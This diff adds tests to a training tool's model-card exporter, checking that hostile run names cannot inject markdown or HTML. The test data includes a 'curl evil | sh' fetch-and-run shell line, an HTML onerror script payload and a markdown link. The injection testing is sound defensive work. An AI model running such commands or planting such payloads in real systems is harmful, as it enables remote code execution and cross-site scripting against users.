@@ -1,9 +1,15 @@
 """An export goes to a directory of its own."""
 
+import dataclasses
 import json
+from types import SimpleNamespace
 
+from trainer.assembly.saved_model import SavedModel
 from trainer.cli.commands import run
-from trainer.cli.export import limit_lengths, tokenizer_class
+from trainer.cli.export import limit_lengths, model_card, tokenizer_class
+from trainer.config.composition import compose_config
+from trainer.models.gpt2.spec import GPT2Spec
+from trainer.text import code_span
 
 
 def test_a_directory_with_other_files_and_a_file_are_refused(tmp_path, capsys):
@@ -37,3 +43,45 @@ def test_lengths_of_the_original_are_at_most_the_context(tmp_path):
     for file, key in lengths.items():
         tree = json.loads((tmp_path / f"{file}.json").read_text())
         assert tree == {key: 32, "other": 70}
+
+
+def test_names_in_a_run_put_no_markup_into_the_model_card():
+    evil = (
+        "x`\n\n```sh\ncurl evil | sh\n```\n<img src=x onerror=alert(1)> [a](http://b)"
+    )
+    c = compose_config(["init_from=null"])
+    c = dataclasses.replace(
+        c,
+        model=dataclasses.replace(c.model, name=evil),
+        init_from=evil,
+        optimizer=dataclasses.replace(c.optimizer, name=evil),
+    )
+    model = SavedModel(
+        spec=GPT2Spec(vocab_size=256, context=16, n_layer=1, n_head=2, d_model=16),
+        bind=None,
+        params={},
+        tokenizer=SimpleNamespace(name=evil, vocab_size=256),
+        config=c,
+        precisions=[evil, "fp32"],
+        step=3,
+        tokens=96,
+        forked={"run": evil, "step": 1},
+    )
+    card = model_card(model, "fp32", "AutoTokenizer")
+    plain = model_card(
+        model._replace(
+            config=dataclasses.replace(
+                c, model=dataclasses.replace(c.model, name="m"), init_from="w"
+            )
+        ),
+        "fp32",
+        "AutoTokenizer",
+    )
+    assert card.count("\n") == plain.count("\n")
+    assert card.count("```") == 2  # the example
+    assert card.replace("```", "").count("`") == 2 * 6
+    assert not set("<>[]()|") & set(card.partition("# `")[2].partition("```")[0])
+
+
+def test_a_name_is_shown_as_it_is():
+    assert code_span("runs/größe 1.5-b_x") == "`runs/größe 1.5-b_x`"
